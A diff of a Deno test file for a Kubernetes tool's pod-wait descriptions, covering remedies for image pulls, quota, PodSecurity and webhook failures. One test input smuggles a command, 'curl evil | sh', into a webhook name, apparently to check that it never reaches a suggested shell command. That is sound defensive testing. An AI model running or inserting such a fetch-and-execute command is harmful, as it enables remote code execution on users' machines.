@@ -1,22 +1,46 @@
 import assert from "node:assert/strict";
 import { parse } from "yaml";
+import type { WaitReason } from "../../k8s/workloads/pod_status.ts";
+import { VERSION } from "../command/version.ts";
 import { describeWait } from "./describe_wait.ts";
 
+const IMAGE = "docker.io/denoland/deno:distroless-2.9.6";
+
+function said(reason: Partial<WaitReason>, serverImage = IMAGE): string {
+  return describeWait({ kind: "other", reason: "R", message: "", ...reason }, serverImage);
+}
+
 Deno.test("what the Pod waits for is described in the cluster's words, once", () => {
-  assert.equal(describeWait({ kind: "other", reason: "FailedMount", message: "no such volume" }), "FailedMount: no such volume");
-  assert.equal(describeWait({ kind: "pulling", reason: "Pulling", message: 'Pulling image "x"' }), 'Pulling image "x"');
-  assert.equal(describeWait({ kind: "other", reason: "SchedulingGated", message: "" }), "SchedulingGated");
+  assert.equal(said({ reason: "FailedMount", message: "no such volume" }), "FailedMount: no such volume");
+  assert.equal(said({ kind: "pulling", reason: "Pulling", message: 'Pulling image "x"' }), 'Pulling image "x"');
+  assert.equal(said({ reason: "SchedulingGated" }), "SchedulingGated");
 });
 
 Deno.test("a known remedy is added", () => {
-  const said = (kind: "image" | "admission", message: string) => describeWait({ kind, reason: "R", message }).split("\n")[1];
-  assert.match(said("image", "not found")!, /`kurun image`.*--server-image/);
-  assert.match(said("admission", 'pods "x" is forbidden: exceeded quota: q')!, /quota/);
-  assert.match(said("admission", 'pods "x" is forbidden: violates PodSecurity "restricted:latest"')!, /restricted/);
-  const webhook = describeWait({ kind: "admission", reason: "R", message: 'failed calling webhook "a.b": no' });
+  const remedy = (message: string) => said({ kind: "admission", message }).split("\n")[1];
+  assert.match(remedy('pods "x" is forbidden: exceeded quota: q')!, /quota/);
+  assert.match(remedy('pods "x" is forbidden: violates PodSecurity "restricted:latest"')!, /restricted/);
+  const webhook = said({ kind: "admission", message: 'failed calling webhook "a.b": no' });
   assert.match(webhook, /kubectl get mutatingwebhookconfigurations,\S+ .* \| grep a\.b$/m);
   const yaml = /^ +(objectSelector: .*)$/m.exec(webhook)?.[1] ?? "";
   assert.deepEqual(parse(yaml), { objectSelector: { matchExpressions: [{ key: "kurun.dev/session", operator: "DoesNotExist" }] } });
-  assert.equal(said("admission", "something else"), undefined);
-  assert.equal(said("admission", 'failed calling webhook "a; curl evil | sh": no'), undefined);
+  assert.equal(remedy("something else"), undefined);
+  assert.equal(remedy('failed calling webhook "a; curl evil | sh": no'), undefined);
+});
+
+Deno.test("an image of the server that cannot be pulled is named, with how to bring it; the user's own is not", () => {
+  const failed = { kind: "image", reason: "ErrImagePull", message: "no such host" } as const;
+  assert.equal(
+    said({ ...failed, image: IMAGE }),
+    `ErrImagePull: no such host
+  Copy ${IMAGE} to a registry that the nodes can pull from, and name the copy with --server-image or KURUN_SERVER_IMAGE.
+  Without a registry, run kurun image, load its file into the nodes (kind load image-archive, k3d image import, ctr images import), ` +
+      `and pass --server-image ghcr.io/kurun-dev/server:${VERSION}.`,
+  );
+  const own = `registry.test/kurun-dev/server:${VERSION}`;
+  assert.match(
+    said({ ...failed, image: own }, own),
+    /^ErrImagePull: no such host\n {2}Write this image with kurun image, and load its file .*$/,
+  );
+  assert.equal(said({ ...failed, image: "busybox" }), "ErrImagePull: no such host");
 });
